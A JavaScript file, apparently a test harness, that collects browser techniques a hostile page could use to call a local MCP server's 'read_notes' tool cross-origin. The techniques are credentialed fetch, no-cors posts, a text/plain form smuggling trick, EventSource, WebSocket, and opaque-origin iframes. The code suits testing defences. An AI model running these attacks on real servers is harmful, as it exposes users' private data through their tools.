// What a page tries. Each function returns what the page could read, null when it could read nothing.
const MESSAGE = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "read_notes" } };
const PATIENCE = 5000;

const settled = (start) => new Promise((done) => {
  setTimeout(() => done("nothing happened"), PATIENCE);
  start(done);
});

const ATTACKS = {
  json: (url, options = {}) => fetch(url, {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json", ...options.headers },
    body: JSON.stringify(MESSAGE), ...options.init,
  }).then((answer) => answer.text()),

  blind: (url) => fetch(url, {
    method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" },
    body: JSON.stringify(MESSAGE),
  }).then(() => null),

  get: (url) => fetch(url, { credentials: "include" }).then((answer) => answer.text()),

  blindGet: (url) => fetch(url, { mode: "no-cors", credentials: "include" }).then(() => null),

  image: (url) => settled((done) => {
    const image = new Image();
    image.onload = image.onerror = () => done(null);
    image.src = url;
  }),

  events: (url) => settled((done) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (event) => { source.close(); done(event.data); };
    source.onerror = () => { source.close(); done(null); };
  }),

  form: (url) => settled((done) => {
    const [start, end] = JSON.stringify({ ...MESSAGE, pad: "|" }).split("|");
    document.body.insertAdjacentHTML("beforeend", '<iframe name="sink"></iframe><form target="sink"><input>');
    const form = document.body.lastElementChild;
    Object.assign(form, { method: "post", action: url, enctype: "text/plain" });
    Object.assign(form.lastElementChild, { name: start, value: end });
    document.body.querySelector("iframe").onload = () => done(null);
    form.submit();
  }),

  socket: (url, options = {}) => settled((done) => {
    const socket = new WebSocket(url.replace("http", "ws"), "mcp");
    socket.onopen = () => socket.send(JSON.stringify({ ...MESSAGE, ...options.message }));
    socket.onmessage = (event) => { socket.close(); done(event.data); };
    socket.onclose = () => done(null);
  }),
};

const attack = (how, url, options) => ATTACKS[how](url, options).catch(() => null);

// The same from a frame whose origin is opaque, or only inherited.
const framed = (kind, source, how, url) => settled((done) => {
  const script = `${source}; attack(${JSON.stringify(how)}, ${JSON.stringify(url)})
    .then((read) => parent.postMessage({ read }, "*"))`;
  const html = `<!doctype html><body><script>${script}</` + "script>";
  const frame = document.createElement("iframe");
  if (kind === "sandbox") { frame.sandbox = "allow-scripts allow-forms"; frame.srcdoc = html; }
  if (kind === "srcdoc") frame.srcdoc = html;
  if (kind === "data") frame.src = `data:text/html,${encodeURIComponent(html)}`;
  if (kind === "blob") frame.src = URL.createObjectURL(new Blob([html], { type: "text/html" }));
  window.onmessage = (event) => done(event.data.read);
  document.body.append(frame);
});
